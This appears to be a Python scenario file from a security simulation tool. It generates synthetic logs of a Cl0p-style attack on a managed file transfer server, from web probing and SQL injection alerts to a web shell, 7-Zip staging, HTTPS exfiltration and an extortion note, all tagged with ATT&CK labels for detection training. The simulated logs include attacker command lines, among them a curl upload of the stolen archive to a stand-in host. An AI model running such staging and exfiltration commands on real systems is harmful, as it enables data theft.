"""Cl0p-style data theft: exploitation of an internet-facing managed file transfer (MFT) server.

Timeline (minutes): 0 probing of the MFT web application; 20 exploit tooling fingerprinted by
the IPS; 21 SQL injection requests; 22 w3wp.exe spawns cmd.exe; 23 web shell (.aspx) written under
the web root; 25-95 web shell sessions from the attacker; 40 discovery; 50 7-Zip staging;
55 exfiltration (hundreds of MB over HTTPS to one external address); 100 extortion note.
"""

from __future__ import annotations

import random

from chainbreaker.simulate import hostactions as act
from chainbreaker.simulate import network as net
from chainbreaker.simulate.intel import CampaignIntel, FeedIndicator
from chainbreaker.simulate.model import Environment, Label
from chainbreaker.simulate.scenarios import steps
from chainbreaker.simulate.scenarios.base import Plan, Scenario, register
from chainbreaker.simulate.telemetry import Process, Telemetry

ATTACKER = "203.0.113.88"
#: The operators drive the web shell from another rented address than the exploitation tooling.
SHELL_OPERATOR = "203.0.113.91"
WEBSHELL = "human2.aspx"
EXFIL_IP, EXFIL = "203.0.113.120", "sync-storage.example.net"
WEBROOT = "C:\\MFTTransfer\\wwwroot"
INETSRV = "c:\\windows\\system32\\inetsrv\\"
UA_TOOL = "python-requests/2.31.0"

L_RECON = Label("MFT application probing", "reconnaissance", "T1595.002", "reconnaissance")
L_WEAPON = Label("exploit tooling fingerprinted", "weaponization", "T1588.005", "resource-development")
L_DELIVERY = Label("SQL injection requests to the MFT application", "delivery", "T1190", "initial-access")
L_EXPLOIT = Label("web server process spawns a shell", "exploitation", "T1059.003", "execution")
L_WEBSHELL = Label("web shell written under the web root", "installation", "T1505.003", "persistence")
L_C2 = Label("web shell sessions", "command-and-control", "T1071.001", "command-and-control")
L_DISCOVERY = Label("discovery from the web shell", "actions-on-objectives", "T1033", "discovery")
L_STAGE = Label("data staged with 7-Zip", "actions-on-objectives", "T1560.001", "collection")
L_EXFIL = Label("bulk exfiltration over HTTPS", "actions-on-objectives", "T1048.002", "exfiltration")
L_EXTORT = Label("extortion note", "actions-on-objectives", "T1657", "impact")

PROBE_SIG = net.Signature(
    9100301,
    "ET SCAN Managed file transfer application enumeration",
    "Attempted Information Leak",
    2,
    "T1595.002",
    "Vulnerability Scanning",
    "TA0043",
    "Reconnaissance",
)
TOOL_SIG = net.Signature(
    9100302,
    "ET EXPLOIT Known exploit tool User-Agent to file transfer application",
    "Attempted Administrator Privilege Gain",
    1,
    "T1588.005",
    "Exploits",
    "TA0042",
    "Resource_Development",
)
SQLI_SIG = net.Signature(
    9100303,
    "ET EXPLOIT MFT guestaccess.aspx SQL injection attempt",
    "Web Application Attack",
    1,
    "T1190",
    "Exploit Public-Facing Application",
    "TA0001",
    "Initial_Access",
)

#: What a provider publishes about the campaign (mass exploitation of MFT servers).
INTEL = CampaignIntel(
    campaign="Mass exploitation of managed file transfer servers",
    intrusion_set="Cl0p (simulated)",
    description=(
        "SQL injection against internet-facing MFT applications from scanning/exploitation hosts, "
        "an .aspx web shell, web-shell operation from separate addresses and bulk exfiltration."
    ),
    indicators=(
        FeedIndicator("delivery", "MFT exploitation source", (("ipv4-addr:value", ATTACKER),), 85),
        FeedIndicator("installation", "MFT web shell file name", (("file:name", WEBSHELL),), 80),
        FeedIndicator(
            "command-and-control", "Web-shell operator address", (("ipv4-addr:value", SHELL_OPERATOR),), 85
        ),
        FeedIndicator(
            "actions-on-objectives",
            "Exfiltration endpoint",
            (("ipv4-addr:value", EXFIL_IP),),
            80,
        ),
        FeedIndicator("actions-on-objectives", "Exfiltration domain", (("domain-name:value", EXFIL),), 80),
    ),
)


@register
class Clop(Scenario):
    name = "clop"
    description = (
        "MFT web application exploited (SQL injection) -> web "
        "shell -> 7-Zip staging -> bulk exfiltration -> extortion"
    )
    roles = ("mft",)
    duration = 105 * 60.0
    intel = INTEL

    def plan(self, env: Environment, rng: random.Random, start: float) -> Plan:
        plan = Plan(start)
        mft = env.first("mft")
        s = plan.state

        def from_w3wp(tel: Telemetry, t: float, image: str, command_line: str, label: Label) -> Process:
            """A process the IIS worker starts: the exploited application, later the web shell, runs
            everything through w3wp.exe, in its working folder."""
            w3wp = tel.state(mft).base["w3wp"]
            return act.spawn(tel, mft, t, w3wp, image, command_line, label=label, cwd=INETSRV)

        def web(
            tel: Telemetry,
            t: float,
            method: str,
            uri: str,
            ua: str,
            status: int,
            label: Label,
            req: int = 0,
            resp: int = 1800,
            src: str = ATTACKER,
        ) -> None:
            net.connect(
                tel,
                t,
                mft,
                mft.ip,
                443,
                src_ip=src,
                src_port=rng.randrange(40000, 65000),
                service="http",
                duration=rng.uniform(0.05, 0.8),
                orig_bytes=req + 400,
                resp_bytes=resp,
                label=label,
                http=net.Http(method, "mft.corp.example", uri, ua, status, req, resp),
            )

        def recon(tel: Telemetry, t: float) -> None:
            ua = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
            for i, (uri, status) in enumerate(
                (
                    ("/", 200),
                    ("/human.aspx", 200),
                    ("/guestaccess.aspx", 200),
                    ("/api/v1/info", 200),
                    ("/admin/", 403),
                    ("/moveitisapi/moveitisapi.dll", 200),
                    ("/robots.txt", 404),
                    ("/.git/config", 404),
                    ("/.env", 404),
                    ("/web.config", 404),
                    ("/api/v1/auth/token", 405),
                    ("/api/v1/folders", 401),
                    ("/machine2.aspx", 404),
                    ("/moveitdmz.aspx", 404),
                    ("/sftp/", 404),
                    ("/webclient/", 404),
                    ("/Login.aspx", 200),
                    ("/help/", 200),
                    ("/backup.zip", 404),
                    ("/server-status", 404),
                )
            ):
                web(tel, t + i * 2.1, "GET", uri, ua, status, L_RECON)
            net.eve_alert(
                tel,
                t + 17,
                mft.name,
                PROBE_SIG,
                ATTACKER,
                rng.randrange(40000, 65000),
                mft.ip,
                443,
                L_RECON,
                "http",
            )

        def weapon(tel: Telemetry, t: float) -> None:
            web(tel, t, "GET", "/api/v1/token", UA_TOOL, 401, L_WEAPON)
            net.eve_alert(
                tel,
                t + 0.1,
                mft.name,
                TOOL_SIG,
                ATTACKER,
                rng.randrange(40000, 65000),
                mft.ip,
                443,
                L_WEAPON,
                "http",
                {
                    "http": {
                        "hostname": "mft.corp.example",
                        "url": "/api/v1/token",
                        "http_user_agent": UA_TOOL,
                    }
                },
            )

        def deliver(tel: Telemetry, t: float) -> None:
            web(tel, t, "POST", "/moveitisapi/moveitisapi.dll?action=m2", UA_TOOL, 200, L_DELIVERY, req=1250)
            web(tel, t + 3, "POST", "/guestaccess.aspx", UA_TOOL, 200, L_DELIVERY, req=2980, resp=5200)
            net.eve_alert(
                tel,
                t + 3.1,
                mft.name,
                SQLI_SIG,
                ATTACKER,
                rng.randrange(40000, 65000),
                mft.ip,
                443,
                L_DELIVERY,
                "http",
                {"http": {"hostname": "mft.corp.example", "url": "/guestaccess.aspx", "http_method": "POST"}},
            )

        def exploit(tel: Telemetry, t: float) -> None:
            s["cmd"] = from_w3wp(tel, t, steps.CMD, "cmd.exe /c whoami", L_EXPLOIT)
            act.spawn(
                tel, mft, t + 0.05, s["cmd"], "C:\\Windows\\System32\\whoami.exe", "whoami", label=L_EXPLOIT
            )

        def install(tel: Telemetry, t: float) -> None:
            w3wp = tel.state(mft).base["w3wp"]
            act.file_create(tel, mft, t, w3wp, f"{WEBROOT}\\{WEBSHELL}", L_WEBSHELL)
            from_w3wp(
                tel,
                t + 4,
                "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe",
                '"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe" '
                "/t:library /utf8output /nostdlib+ "
                '/out:"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary '
                'ASP.NET Files\\root\\9a1c\\b2e7\\App_Web_human2.aspx.cdcab7d2.dll"',
                L_WEBSHELL,
            )

        def shell(tel: Telemetry, t: float) -> None:
            web(
                tel,
                t,
                "POST",
                f"/{WEBSHELL}",
                UA_TOOL,
                200,
                L_C2,
                req=rng.randrange(300, 900),
                resp=rng.randrange(400, 9000),
                src=SHELL_OPERATOR,
            )

        def discover(tel: Telemetry, t: float) -> None:
            cmd = from_w3wp(
                tel, t, steps.CMD, 'cmd.exe /c "whoami /all & hostname & ipconfig /all"', L_DISCOVERY
            )
            for i, (img, args) in enumerate(
                (
                    ("whoami.exe", "whoami /all"),
                    ("hostname.exe", "hostname"),
                    ("ipconfig.exe", "ipconfig /all"),
                )
            ):
                act.spawn(
                    tel, mft, t + 0.1 + i * 0.4, cmd, f"C:\\Windows\\System32\\{img}", args, label=L_DISCOVERY
                )

        def stage(tel: Telemetry, t: float) -> None:
            cmd = from_w3wp(
                tel,
                t,
                steps.CMD,
                'cmd.exe /c "C:\\Program Files\\7-Zip\\7z.exe" a -t7z -mx1 '
                "-pDd81k2 C:\\ProgramData\\mft_export.7z D:\\MFTData\\*",
                L_STAGE,
            )
            zipper = act.spawn(
                tel,
                mft,
                t + 0.1,
                cmd,
                "C:\\Program Files\\7-Zip\\7z.exe",
                '"C:\\Program Files\\7-Zip\\7z.exe" a -t7z -mx1 '
                "-pDd81k2 C:\\ProgramData\\mft_export.7z D:\\MFTData\\*",
                label=L_STAGE,
            )
            act.file_create(tel, mft, t + 0.5, zipper, "C:\\ProgramData\\mft_export.7z", L_STAGE)

        def exfil(tel: Telemetry, t: float) -> None:
            cmd = from_w3wp(
                tel,
                t,
                steps.CMD,
                f"cmd.exe /c curl.exe -k -s -T C:\\ProgramData\\mft_export.7z https://{EXFIL}/u/",
                L_EXFIL,
            )
            curl = act.spawn(
                tel,
                mft,
                t + 0.1,
                cmd,
                "C:\\Windows\\System32\\curl.exe",
                f"curl.exe -k -s -T C:\\ProgramData\\mft_export.7z https://{EXFIL}/u/",
                label=L_EXFIL,
            )
            net.resolve(tel, t + 0.2, mft, EXFIL, [EXFIL_IP], proc=curl, label=L_EXFIL)
            at = t + 0.3
            for size in (268_435_456, 251_658_240, 196_083_712):
                duration = size / rng.uniform(1.6e6, 2.4e6)
                net.https(
                    tel,
                    at,
                    mft,
                    EXFIL_IP,
                    EXFIL,
                    curl,
                    duration=duration,
                    orig_bytes=size,
                    resp_bytes=rng.randrange(9000, 40000),
                    label=L_EXFIL,
                )
                at += duration + rng.uniform(1, 5)

        def extort(tel: Telemetry, t: float) -> None:
            w3wp = tel.state(mft).base["w3wp"]
            act.file_create(tel, mft, t, w3wp, f"{WEBROOT}\\README_CL0P_DATA.txt", L_EXTORT)
            act.file_create(
                tel, mft, t + 0.2, w3wp, "C:\\Users\\Public\\Desktop\\README_CL0P_DATA.txt", L_EXTORT
            )

        plan.at(0, recon)
        plan.at(20 * 60, weapon)
        plan.at(21 * 60, deliver)
        plan.at(22 * 60, exploit)
        plan.at(23 * 60, install)
        t = 25 * 60.0
        while t < 95 * 60:
            plan.at(t, shell)
            t += rng.uniform(90, 600)
        plan.at(40 * 60 + 7, discover)
        plan.at(50 * 60 + 3, stage)
        plan.at(55 * 60 + 1, exfil)
        plan.at(100 * 60, extort)
        return plan
